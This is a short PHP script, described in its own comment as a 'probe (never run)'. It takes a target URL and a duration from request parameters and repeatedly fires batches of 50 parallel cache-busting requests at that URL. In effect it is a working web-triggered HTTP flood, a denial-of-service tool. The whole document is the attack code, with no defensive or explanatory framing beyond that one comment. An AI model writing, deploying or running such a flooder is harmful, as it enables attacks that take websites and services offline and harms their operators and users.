<?php
// probe (never run): the visitor's URL fetched in batches of parallel requests over and over
$u = $_REQUEST['url'];
$end = time() + intval($_REQUEST['dur']);
while (time() < $end) {
    $m = curl_multi_init();
    for ($i = 0; $i < 50; $i++) {
        $c = curl_init($u . '?' . mt_rand());
        curl_setopt($c, CURLOPT_RETURNTRANSFER, true);
        curl_setopt($c, CURLOPT_TIMEOUT, 2);
        curl_multi_add_handle($m, $c);
    }
    do { curl_multi_exec($m, $run); } while ($run);
    curl_multi_close($m);
}
